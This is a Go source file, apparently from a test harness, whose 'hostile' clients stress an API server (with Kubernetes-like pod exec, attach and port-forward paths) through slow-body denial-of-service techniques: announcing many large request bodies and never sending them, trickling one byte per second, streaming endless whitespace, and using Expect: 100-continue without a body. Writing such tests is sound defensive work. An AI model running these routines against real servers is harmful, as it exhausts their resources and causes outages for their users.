package hostile

import (
	"context"
	"fmt"
	"io"
	"net"
	"time"
)

// bodiesAtATime is the number of streams of one connection on which each of these clients announces
// a body. The server then waits for the bodies.
const bodiesAtATime = 50

// announcing announces bodies and sends none of them.
func announcing(ctx context.Context, t *Target, i int) error {
	return bodies(ctx, t, i, t.sometimes(i), t.resource, func(*session, []uint32) { <-ctx.Done() })
}

// occupying does the same on the paths of streams, which may last.
func occupying(ctx context.Context, t *Target, i int) error {
	return bodies(ctx, t, i, t.sometimes(i), func(n int) string {
		return t.Pod + []string{"/exec?command=true&stdout=true", "/attach?stdout=true", "/portforward", "/proxy/upload"}[n%4]
	}, func(*session, []uint32) { <-ctx.Done() })
}

// trickling sends a byte of each body every second.
func trickling(ctx context.Context, t *Target, i int) error {
	return trickle(ctx, t, i, t.sometimes(i))
}

func trickle(ctx context.Context, t *Target, i int, token string) error {
	return bodies(ctx, t, i, token, t.resource, func(s *session, streams []uint32) {
		for ctx.Err() == nil {
			for _, stream := range streams {
				if s.WriteData(stream, false, []byte("{")) != nil {
					return
				}
			}
			rest(ctx, time.Second)
		}
	})
}

// sometimes returns a token for two attacks of three. A request without a token is anonymous.
func (t *Target) sometimes(i int) string {
	if i%3 == 0 {
		return ""
	}
	return t.token(i)
}

func bodies(ctx context.Context, t *Target, i int, token string, path func(int) string, send func(*session, []uint32)) error {
	s, err := t.open(ctx, token, false)
	if err != nil {
		return err
	}
	defer func() { _ = s.Close() }()
	var streams []uint32
	for n := range bodiesAtATime {
		stream, err := s.ask("POST", path(i+n), false, "content-type", "application/json", "content-length", "3000000")
		if err != nil {
			return nil
		}
		streams = append(streams, stream)
	}
	send(s, streams)
	return nil
}

const ofJSON = "Content-Type: application/json\r\n"

// uploading sends whole bodies of 3 MB, which the server should reject.
func uploading(ctx context.Context, t *Target, i int) error {
	return t.exchange(ctx, func(conn net.Conn) error {
		const size = 3 << 20
		if _, err := fmt.Fprintf(conn, "POST %s%s%sContent-Length: %d\r\n\r\n", t.resource(i), t.as(i), ofJSON, size); err != nil {
			return err
		}
		go func() { _, _ = io.CopyN(conn, spaces{}, size) }() // until the connection ends
		return nil
	})
}

// expecting asks whether it may send a body, and then sends none.
func expecting(ctx context.Context, t *Target, i int) error {
	return t.exchange(ctx, func(conn net.Conn) error {
		_, err := fmt.Fprintf(conn, "POST %s%s%sContent-Length: 1000\r\nExpect: 100-continue\r\n\r\n", t.resource(i), t.as(i), ofJSON)
		return err
	})
}

// spaces is endless white space, which may precede JSON.
type spaces struct{}

func (spaces) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = ' '
	}
	return len(p), nil
}

// exchange writes a request by HTTP/1.1, and reads until the server ends the connection, but at
// most for some seconds.
func (t *Target) exchange(ctx context.Context, write func(net.Conn) error) error {
	conn, err := t.dial(ctx, "http/1.1")
	if err != nil {
		return err
	}
	defer func() { _ = conn.Close() }()
	_ = conn.SetDeadline(time.Now().Add(5 * time.Second))
	if write(conn) != nil {
		return nil // the server has ended the connection
	}
	_, _ = io.Copy(io.Discard, conn)
	return nil
}
